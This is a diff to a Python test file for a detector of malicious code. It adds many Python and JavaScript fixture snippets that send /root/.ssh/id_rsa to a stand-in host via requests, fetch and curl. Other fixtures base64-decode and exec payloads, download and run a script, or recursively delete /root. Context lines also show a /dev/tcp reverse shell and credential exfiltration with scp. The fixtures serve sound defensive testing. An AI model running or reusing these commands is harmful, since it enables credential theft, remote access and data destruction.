@@ -49,6 +49,48 @@ SENT = [
     ("a.sh", "scp -q ~/.aws/credentials copy@in.example.net:/srv"),
     ("a.sh", "exec 3<>/dev/tcp/198.51.100.9/80\ncat ~/.netrc > /dev/tcp/198.51.100.9/80"),
 ]
+_U, _K = "https://in.example.net", "open('/root/.ssh/id_rsa').read()"
+_J = "fs.readFileSync('/root/.ssh/id_rsa')"
+SENT += [
+    ("a.py", f"{code}")
+    for code in (
+        f"import requests as r\nr.post('{_U}', data={_K})",
+        f"from requests import get, post as p\np('{_U}', data={_K})",
+        f"import requests\nsend = requests.post\nsend('{_U}', data={_K})",
+        f"import requests\nfrom a import k\nk = {_K}\nrequests.post('{_U}', data=k)",
+        f"import requests\nrequests \\\n  .post('{_U}', \\\n  data={_K})",
+        f"import requests\na = b = {_K}\nrequests.post('{_U}', data=a)",
+        f"import requests\nd = {{'k': {_K}}}\nrequests.get(f'{_U}?k={{d['k']}}')",
+        f"import requests\nr = [open(p).read() for p in ['/root/.ssh/id_rsa']]\n"
+        f"requests.post('{_U}', json=r)",
+        f"import requests\ndef get(): return {_K}\nrequests.post('{_U}', data=get())",
+        f"import requests\ndef send(a: dict[str, int], x, b=(1, 2)):\n"
+        f"    requests.post('{_U}', data=x)\nsend(1, {_K})",
+        f"import requests\ndef send(*x):\n    requests.post('{_U}', json=x)\nsend(1, {_K})",
+        f"import requests\nk = ''\ndef take():\n    global k\n    k = {_K}\n"
+        f"def send():\n    requests.post('{_U}', data=k)",
+        f"import requests\ndef send(x): requests.post('{_U}', data=x)\n"
+        f"Thread(target=send, args=({_K},)).start()",
+        f"from os import system\nsystem('curl -d @/root/.ssh/id_rsa {_U}')",
+        f"import subprocess as sp\ncommand = ['curl', '-d', '@/root/.ssh/id_rsa', '{_U}']\n"
+        "sp.run(\n    command,\n    check=True,\n)",
+        f"import subprocess\nsubprocess.run(\n    ['sh', '-c', 'curl -d @/root/.ssh/id_rsa {_U}'])",
+        f"import subprocess\nsubprocess.run(['curl', '-d', '@-', '{_U}'], input={_K})",
+    )
+]
+SENT += [
+    ("a.js", code)
+    for code in (
+        f"const h = require('https'); const r = h.request('{_U}'); r.write({_J});",
+        f"import * as cp from 'node:child_process';\ncp.exec('curl -d @/root/.ssh/id_rsa {_U}');",
+        f"import {{ request as r }} from 'undici';\nr('{_U}', {{ body: {_J} }});",
+        f"const {{ exec: e }} = require('child_process');\ne('curl -d @/root/.ssh/id_rsa {_U}');",
+        f"const x = require('child_process').execSync('curl -d @/root/.ssh/id_rsa {_U}');",
+        f"/`/.test(x);\nfetch('{_U}', {{ body: {_J} }});",
+        f"class A {{\n  private async go(k: string): Promise<void> {{\n    fetch('{_U}', "
+        f"{{ body: k }});\n  }}\n  run() {{ this.go({_J}); }}\n}}",
+    )
+]
 NOT_SENT = [
     ("a.py", "import requests\nk = open('.env').read()\nprint(k)\nrequests.post(U, data={'a': 1})"),
     (
@@ -100,7 +142,15 @@ RUN = [
         "download-run",
     ),
     ("a.py", "import base64\ncode = base64.b64decode(TEXT)\nexec(code)", "decoded-run"),
+    ("a.py", "import base64\nexec('x = 1;' + base64.b64decode(TEXT).decode())", "decoded-run"),
+    (
+        "a.py",
+        "import requests, subprocess\nr = requests.get('https://x.example.net')\n"
+        "with open('m', 'wb') as f:\n    f.write(r.content)\nsubprocess.run(['bash', 'm'])",
+        "download-run",
+    ),
     ("a.js", "eval(Buffer.from(text, 'base64').toString())", "decoded-run"),
+    ("a.js", "fs.rmdirSync('/root', { recursive: true })", "deletes-system"),
     (
         "a.py",
         "import shutil, pathlib\nfor one in pathlib.Path.home().iterdir():\n    shutil.rmtree(one)",
@@ -193,6 +243,12 @@ def test_long_lines_and_deep_nesting_hide_nothing(path: str, code: str) -> None:
     assert "secret-sent" in found(path, code)
 
 
+@pytest.mark.parametrize("name", sorted(meanings.NETWORK - {"node-fetch"}))
+def test_code_with_a_function_that_sends_is_read(name: str) -> None:
+    """Code without any of the words of `harm` is not read, so each function holds one of them."""
+    assert "secret-sent" in found("a.js", f"{name}('{_U}', {_J})")
+
+
 def test_code_that_is_broken_is_read_as_far_as_it_goes() -> None:
     assert "secret-sent" in found("a.py", "def broken(:\n  requests.post(open('.env'))")
     assert "reverse-shell" in found("a.py", "def broken(:\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1")
@@ -204,6 +260,8 @@ def test_code_that_is_broken_is_read_as_far_as_it_goes() -> None:
         ("a.py", "import requests\nopen('.ssh')\nx = ", "f('a').", "g()"),
         ("a.py", "import requests\nopen('.ssh')\nx = ", "'a' + ", "'b'"),
         ("a.py", "import requests\nopen('.ssh')\n", "x = f(x) + x\n", ""),
+        ("a.py", "import requests\nopen('.ssh')\n", "x=", ""),
+        ("a.py", "import requests\nopen('.ssh')\n", "return ", ""),
         ("a.js", "fetch('https://x.example.net', '.ssh')\n", "f('a').", "g()"),
         ("a.js", "fetch('https://x.example.net', '.ssh')\n", "(", ""),
         ("a.js", "fetch('https://x.example.net', '.ssh')\n", "`", ""),
